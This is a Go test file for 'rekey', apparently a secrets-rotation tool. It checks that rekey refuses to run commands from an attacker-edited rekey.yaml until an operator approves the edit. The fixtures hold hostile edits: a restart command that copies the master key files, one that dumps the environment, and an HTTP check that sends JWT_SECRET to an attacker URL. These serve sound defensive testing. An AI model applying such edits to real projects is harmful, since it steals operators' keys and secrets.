package main

// The attacker of these tests can write the project folder, rekey.yaml
// included, but has no master key (SECURITY.md). Each test edits rekey.yaml
// as such an attacker would, then runs what the operator or a cron job runs
// next: rekey must refuse (exit 5) before it runs a command, sends a value,
// reads a key or opens a store that rekey.yaml names, until the operator
// approves the change with `rekey config trust`.

import (
	"bytes"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/rekeyhq/rekey/internal/testkit"
)

// apProject is a project initialised in-process, its master key in a key
// file (as `rekey init` makes by default) and its approvals in a state
// folder of its own.
type apProject struct {
	*inProject
	keys  string // XDG_CONFIG_HOME: the master key file is under it
	state string // XDG_STATE_HOME: approvals and anchors
}

func newApProject(t *testing.T) *apProject {
	t.Helper()
	p := &apProject{inProject: &inProject{t: t, dir: t.TempDir()}, keys: t.TempDir(), state: t.TempDir()}
	p.env = map[string]string{"REKEY_MASTER_KEY": "", "XDG_CONFIG_HOME": p.keys, "XDG_STATE_HOME": p.state, "REKEY_ACTOR": "approval-test"}
	p.init(keyDotenv())
	return p
}

func (p *apProject) cfgPath() string { return filepath.Join(p.dir, "rekey.yaml") }

// edit rewrites rekey.yaml as the attacker: old replaced by new (once), or
// appended when old is "".
func (p *apProject) edit(old, new string) {
	p.t.Helper()
	testkit.EditFile(p.t, p.cfgPath(), old, new)
}

// approvalFile is where the approval of the project's rekey.yaml is kept:
// $XDG_STATE_HOME/rekey/trusted/SHA-256 of its absolute path.
func (p *apProject) approvalFile() string {
	h := sha256.Sum256([]byte(p.cfgPath()))
	return filepath.Join(p.state, "rekey", "trusted", hex.EncodeToString(h[:]))
}

// wantRefused runs args and wants exit 5 with the approval refusal, naming
// the changed key in the message; damage (run after the command, before
// its exit code is looked at) fails the test first when the attack worked.
func (p *apProject) wantRefused(damage func(), key string, args ...string) string {
	p.t.Helper()
	out, errs, code := p.run(args...)
	if damage != nil {
		damage()
	}
	if code != 5 || !strings.Contains(errs, "rekey: error: rekey.yaml changed since you approved it (line") ||
		!strings.Contains(errs, key) || !strings.Contains(errs, "rekey: hint: review it with `rekey config diff`, then `rekey config trust`") {
		p.t.Fatalf("rekey %s on a changed rekey.yaml: exit %d, want 5 naming %s\n%s%s", strings.Join(args, " "), code, key, out, errs)
	}
	return errs
}

func fileExistsT(path string) bool { _, err := os.Lstat(path); return err == nil }

// TestAttackConfigCommand: the attacker adds a service whose restart
// command copies the operator's master key file. The operator's next
// rotation (manual, or rotate --due from cron a year later) must refuse
// without running it; once the operator has reviewed and approved the
// change, it runs.
func TestAttackConfigCommand(t *testing.T) {
	p := newApProject(t)
	loot := filepath.Join(t.TempDir(), "loot")
	envBefore := p.read(".env")
	p.edit("", "services:\n  app:\n    restart: [sh, -c, 'cat "+p.keys+"/rekey/keys/*.key > "+loot+"']\n    consumes: all\n")
	noLoot := func() {
		t.Helper()
		if fileExistsT(loot) {
			t.Fatal("the attacker's restart command ran: it copied the master key file")
		}
		if p.read(".env") != envBefore {
			t.Fatal("the .env changed")
		}
	}

	errs := p.wantRefused(noLoot, "services.app.restart", "rotate", "JWT_SECRET")
	if !strings.Contains(errs, "cat "+p.keys) { // the compact diff shows the line
		t.Errorf("the refusal does not show the added line:\n%s", errs)
	}
	p.env["REKEY_TEST_NOW"] = time.Now().AddDate(1, 0, 1).UTC().Format(time.RFC3339)
	p.wantRefused(noLoot, "services.app.restart", "rotate", "--due")
	delete(p.env, "REKEY_TEST_NOW")

	// Every command that acts on rekey.yaml refuses it; none runs the command.
	for _, args := range [][]string{
		{"rotate", "--all"}, {"rotate", "--due", "--dry-run"}, {"recover"}, {"recover", "--probe"}, {"rollback", "JWT_SECRET"},
		{"set", "ANTHROPIC_API_KEY"}, {"publish", "JWT_SECRET"}, {"run", "--", "true"}, {"verify"},
		{"services", "status"}, {"services", "restart"}, {"reencrypt", "--verify"}, {"postgres", "add-role"}, {"master", "rotate"},
	} {
		p.wantRefused(noLoot, "services.app.restart", args...)
	}

	// The operator reviews the change, then approves it (audited).
	out, _, code := p.run("config", "diff")
	if code != 1 || !strings.Contains(out, "+    restart: [sh, -c, 'cat "+p.keys) || !strings.Contains(out, "--- rekey.yaml (approved)") {
		t.Fatalf("config diff: exit %d, want 1 and the added lines\n%s", code, out)
	}
	out = p.must("config", "trust")
	if !strings.Contains(out, "services.app.restart") || !strings.Contains(out, "approved rekey.yaml") {
		t.Fatalf("config trust does not say what it approves:\n%s", out)
	}
	if out, _, code := p.run("config", "diff"); code != 0 || !strings.Contains(out, "approved as it is") {
		t.Fatalf("config diff after trust: exit %d\n%s", code, out)
	}
	lines := strings.Split(strings.TrimSpace(p.must("audit", "--json")), "\n")
	var last struct{ Action, Detail string }
	if err := json.Unmarshal([]byte(lines[len(lines)-1]), &last); err != nil {
		t.Fatal(err)
	}
	if last.Action != "config.trust" || !strings.Contains(last.Detail, "sha256 ") || strings.Contains(last.Detail, "restart") {
		t.Fatalf("last audit entry %+v, want config.trust with a sha256 and no content", last)
	}
	p.must("audit", "verify")

	// Approved, rekey does what rekey.yaml says.
	p.must("rotate", "JWT_SECRET")
	if !fileExistsT(loot) {
		t.Fatal("the approved restart command did not run")
	}
}

// TestAttackConfigHTTPCheck: the attacker adds an http check that sends
// JWT_SECRET in a header to a server of theirs. Neither verify nor a
// rotation may send a request.
func TestAttackConfigHTTPCheck(t *testing.T) {
	var hits atomic.Int32
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { hits.Add(1) }))
	defer srv.Close()
	p := newApProject(t)
	p.edit("", "checks:\n  login:\n    http:\n      url: "+srv.URL+"/steal\n      headers: {X-Token: \"{{ JWT_SECRET }}\"}\n")
	noHits := func() {
		t.Helper()
		if n := hits.Load(); n != 0 {
			t.Fatalf("the attacker's server got %d requests carrying JWT_SECRET", n)
		}
	}
	p.wantRefused(noHits, "checks.login.http.url", "verify")
	p.wantRefused(noHits, "checks.login.http.headers", "rotate", "JWT_SECRET")
}

// TestAttackConfigWeakGenerator: the attacker shrinks JWT_SECRET's
// generator to the smallest size rekey.yaml accepts; the next rotation must
// not make a value that weak.
func TestAttackConfigWeakGenerator(t *testing.T) {
	p := newApProject(t)
	envBefore := p.read(".env")
	p.edit("generator: {bytes: 64,", "generator: {bytes: 16,")
	p.wantRefused(func() {
		if p.read(".env") != envBefore {
			t.Fatal("a rotation ran with the attacker's generator")
		}
	}, "secrets.JWT_SECRET.generator", "rotate", "JWT_SECRET")
}

// TestAttackConfigTargetPath: the attacker points the .env target at a
// world-readable file of theirs; publish (the hint a drift gives) must not
// write the secret there.
func TestAttackConfigTargetPath(t *testing.T) {
	p := newApProject(t)
	pub := filepath.Join(t.TempDir(), "public.env")
	if err := os.WriteFile(pub, nil, 0o644); err != nil {
		t.Fatal(err)
	}
	p.edit("path: .env}", "path: "+pub+"}")
	unpublished := func() {
		t.Helper()
		if b, _ := os.ReadFile(pub); len(b) != 0 {
			t.Fatalf("a secret was published to the attacker's file: %d bytes", len(b))
		}
	}
	p.wantRefused(unpublished, "environments.production.targets.app", "publish", "JWT_SECRET")
	p.wantRefused(unpublished, "environments.production.targets.app", "rotate", "JWT_SECRET")
}

// TestAttackConfigMasterKeyFile: the attacker makes a store and a key of
// their own and points store.path and store.master_key at them, with a
// restart command; rekey must refuse before it reads that key or opens
// that store.
func TestAttackConfigMasterKeyFile(t *testing.T) {
	p := newApProject(t)

	// The attacker's own project, key and store.
	evil := t.TempDir()
	evilKeys := t.TempDir()
	if err := os.WriteFile(filepath.Join(evil, ".env"), []byte("JWT_SECRET="+ctRandB64(64, base64.StdEncoding)+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, errs, code := runIn(t, evil, map[string]string{"REKEY_MASTER_KEY": "", "XDG_CONFIG_HOME": evilKeys, "XDG_STATE_HOME": t.TempDir()}, "", "init", "--env-file", ".env"); code != 0 {
		t.Fatalf("attacker's init: %s", errs)
	}
	keys, _ := filepath.Glob(filepath.Join(evilKeys, "rekey", "keys", "*.key"))
	if len(keys) != 1 {
		t.Fatalf("attacker's key files: %v", keys)
	}
	evilStore := filepath.Join(evil, ".rekey", "rekey.db")
	before, err := os.ReadFile(evilStore)
	if err != nil {
		t.Fatal(err)
	}
	loot := filepath.Join(t.TempDir(), "loot")
	cfg := p.read("rekey.yaml")
	i, j := strings.Index(cfg, "store:\n"), strings.Index(cfg, "environments:\n")
	p.write("rekey.yaml", cfg[:i]+"store:\n  path: "+evilStore+"\n  master_key: file:"+keys[0]+"\n  keep_versions: 0\n\n"+cfg[j:]+
		"services:\n  app:\n    restart: [sh, -c, 'env > "+loot+"']\n    consumes: all\n", 0o644)

	anchors, _ := filepath.Glob(filepath.Join(p.state, "rekey", "anchors", "*"))
	untouched := func() {
		t.Helper()
		if now, _ := filepath.Glob(filepath.Join(p.state, "rekey", "anchors", "*")); len(now) != len(anchors) {
			t.Fatal("the attacker's store was opened with the attacker's key: its audit anchor is in the operator's state folder")
		}
		if fileExistsT(loot) {
			t.Fatal("the attacker's restart command ran")
		}
		after, err := os.ReadFile(evilStore)
		if err != nil || !bytes.Equal(before, after) {
			t.Fatal("the attacker's store was opened with the attacker's key and written")
		}
		for _, suffix := range []string{"-wal", "-shm", "-journal"} {
			if fileExistsT(evilStore + suffix) {
				t.Fatalf("the attacker's store was opened: %s%s exists", evilStore, suffix)
			}
		}
	}
	p.wantRefused(untouched, "store.master_key", "rotate", "JWT_SECRET")
	p.wantRefused(untouched, "store.path", "recover")
	p.wantRefused(untouched, "store.path", "services", "restart")
}

// TestAttackConfigApprovalSymlink: an approval file that is a symbolic
// link (to an approval of the attacker's edit) is refused, not followed.
func TestAttackConfigApprovalSymlink(t *testing.T) {
	p := newApProject(t)
	loot := filepath.Join(t.TempDir(), "loot")
	p.edit("", "services:\n  app:\n    restart: [sh, -c, 'touch "+loot+"']\n    consumes: all\n")
	// An approval of the edited rekey.yaml, well formed, elsewhere.
	text := p.read("rekey.yaml")
	sum := sha256.Sum256([]byte(text))
	planted := filepath.Join(t.TempDir(), "approval")
	body := "rekey-trust v1\npath \"" + p.cfgPath() + "\"\nsha256 " + hex.EncodeToString(sum[:]) + "\n\n" + text
	if err := os.WriteFile(planted, []byte(body), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Remove(p.approvalFile()); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(planted, p.approvalFile()); err != nil {
		t.Fatal(err)
	}
	_, errs, code := p.run("rotate", "JWT_SECRET")
	if fileExistsT(loot) {
		t.Fatal("the attacker's restart command ran: the symbolic link was followed")
	}
	if code != 5 || !strings.Contains(errs, "is a symbolic link") {
		t.Fatalf("rotate with a symlinked approval: exit %d, want 5\n%s", code, errs)
	}
	// The planted file itself, as a regular file, is what trust would
	// write: so the refusal above is the symbolic link's.
	if err := os.Remove(p.approvalFile()); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p.approvalFile(), []byte(body), 0o600); err != nil {
		t.Fatal(err)
	}
	p.must("rotate", "JWT_SECRET")
	if !fileExistsT(loot) {
		t.Fatal("the approved restart command did not run")
	}
}

// TestConfigReadOnlyCommandsOnChangedConfig: the commands that only report
// keep working on a rekey.yaml that changed; doctor fails config-approved.
func TestConfigReadOnlyCommandsOnChangedConfig(t *testing.T) {
	p := newApProject(t)
	loot := filepath.Join(t.TempDir(), "loot")
	p.edit("", "services:\n  app:\n    restart: [sh, -c, 'touch "+loot+"']\n    consumes: all\n")
	for _, args := range [][]string{
		{"history", "JWT_SECRET"}, {"get", "JWT_SECRET"}, {"audit"}, {"audit", "verify"}, {"audit", "anchor"},
		{"report"}, {"example", "-o", "env.example"}, {"rotate", "JWT_SECRET", "--dry-run"}, {"scan", "."},
		{"incident", "status"}, {"notify", "status"},
	} {
		if out, errs, code := p.run(args...); code != 0 && !(args[0] == "scan" && code == 1) { // scan: 1 is findings
			t.Errorf("rekey %s on a changed rekey.yaml: exit %d\n%s%s", strings.Join(args, " "), code, out, errs)
		}
	}
	if out, errs, code := p.run("status"); code != 0 && code != 8 {
		t.Errorf("status: exit %d\n%s%s", code, out, errs)
	}
	out, _, code := p.run("doctor", "--json")
	var checks []doctorCheck
	if err := json.Unmarshal([]byte(out), &checks); err != nil || code != 1 {
		t.Fatalf("doctor: exit %d, %v\n%s", code, err, out)
	}
	found := false
	for _, c := range checks {
		if c.Check == "config-approved" {
			found = true
			if c.Status != checkFail || !strings.Contains(c.Detail, "services.app.restart") || !strings.Contains(c.Fix, "rekey config trust") {
				t.Errorf("config-approved: %+v", c)
			}
		}
	}
	if !found {
		t.Error("doctor has no config-approved check")
	}
	if fileExistsT(loot) {
		t.Fatal("a read-only command ran the attacker's restart command")
	}
}

// TestAttackConfigInitMerge: init adding an environment must not approve
// an edit it did not make: it refuses a rekey.yaml that is not approved as
// it is, and writes nothing.
func TestAttackConfigInitMerge(t *testing.T) {
	p := newApProject(t)
	loot := filepath.Join(t.TempDir(), "loot")
	p.write(".env.staging", "JWT_SECRET="+ctRandB64(64, base64.StdEncoding)+"\n", 0o600)
	p.edit("", "services:\n  app:\n    restart: [sh, -c, 'touch "+loot+"']\n    consumes: all\n")
	cfgBefore := p.read("rekey.yaml")
	p.wantRefused(func() {
		if p.read("rekey.yaml") != cfgBefore {
			t.Fatal("init merged into the attacker's rekey.yaml (and approved it)")
		}
	}, "services.app.restart", "init", "--environment", "staging", "--env-file", ".env.staging")
	p.wantRefused(func() {
		if fileExistsT(loot) {
			t.Fatal("the attacker's restart command ran")
		}
	}, "services.app.restart", "-e", "staging", "rotate", "JWT_SECRET")

	// Approved, init merges, and approves what it wrote.
	p.must("config", "trust")
	p.must("init", "--environment", "staging", "--env-file", ".env.staging")
	p.must("-e", "staging", "rotate", "JWT_SECRET")
	if out, _, code := p.run("config", "diff"); code != 0 {
		t.Fatalf("config diff after init: exit %d\n%s", code, out)
	}
}

// TestConfigRekeyWritesApproved: master rotate rewrites rekey.yaml and
// approves what it wrote; it refuses a changed rekey.yaml first.
func TestConfigRekeyWritesApproved(t *testing.T) {
	p := newApProject(t)
	p.edit("", "# a comment\n")
	p.wantRefused(nil, "line", "master", "rotate")
	p.must("config", "trust")
	p.must("master", "rotate")
	if !strings.Contains(p.read("rekey.yaml"), "master_key: file:") {
		t.Fatal("master rotate did not rewrite rekey.yaml")
	}
	p.must("rotate", "JWT_SECRET")
	if out, _, code := p.run("config", "diff"); code != 0 {
		t.Fatalf("config diff after master rotate: exit %d\n%s", code, out)
	}
}

// TestConfigNotApprovedYet: a rekey.yaml never approved here (another
// machine, or written before rekey had approvals) is refused plainly;
// config diff shows all of it; trust says it is the first approval.
func TestConfigNotApprovedYet(t *testing.T) {
	p := newApProject(t)
	if err := os.Remove(p.approvalFile()); err != nil {
		t.Fatal(err)
	}
	_, errs, code := p.run("rotate", "JWT_SECRET")
	if code != 5 || !strings.Contains(errs, "rekey: error: rekey.yaml is not approved on this machine yet") || !strings.Contains(errs, "rekey: hint: review it with `rekey config diff`, then `rekey config trust`") {
		t.Fatalf("rotate of a never approved rekey.yaml: exit %d\n%s", code, errs)
	}
	out, _, code := p.run("config", "diff")
	if code != 1 || !strings.Contains(out, "not approved on this machine yet") || !strings.Contains(out, "+version: 1") {
		t.Fatalf("config diff: exit %d\n%s", code, out)
	}
	out = p.must("config", "trust")
	if !strings.Contains(out, "first approval") {
		t.Fatalf("config trust:\n%s", out)
	}
	if out := p.must("config", "trust"); !strings.Contains(out, "approved already") {
		t.Fatalf("config trust again:\n%s", out)
	}
	p.must("rotate", "JWT_SECRET")

	// The approval file: 0600 in a 0700 folder, header and the approved text.
	fi, err := os.Stat(p.approvalFile())
	if err != nil || fi.Mode().Perm() != 0o600 {
		t.Fatalf("approval file: %v %v", fi, err)
	}
	if di, err := os.Stat(filepath.Dir(p.approvalFile())); err != nil || di.Mode().Perm() != 0o700 {
		t.Fatalf("approval folder: %v %v", di, err)
	}
	b, _ := os.ReadFile(p.approvalFile())
	sum := sha256.Sum256([]byte(p.read("rekey.yaml")))
	if want := "rekey-trust v1\npath \"" + p.cfgPath() + "\"\nsha256 " + hex.EncodeToString(sum[:]) + "\n\n" + p.read("rekey.yaml"); string(b) != want {
		t.Fatalf("approval file:\n%s", b)
	}

	// A damaged approval is refused, and trust approves anew.
	if err := os.WriteFile(p.approvalFile(), append(b, '#'), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, errs, code := p.run("rotate", "JWT_SECRET"); code != 5 || !strings.Contains(errs, "is damaged") {
		t.Fatalf("rotate with a damaged approval: exit %d\n%s", code, errs)
	}
	p.must("config", "trust")
	p.must("rotate", "JWT_SECRET")

	// Without a state folder nothing can be approved: refused.
	p.env["XDG_STATE_HOME"], p.env["HOME"] = "", ""
	if _, errs, code := p.run("rotate", "JWT_SECRET"); code != 5 || !strings.Contains(errs, "neither XDG_STATE_HOME nor HOME is set") {
		t.Fatalf("rotate without a state folder: exit %d\n%s", code, errs)
	}
}
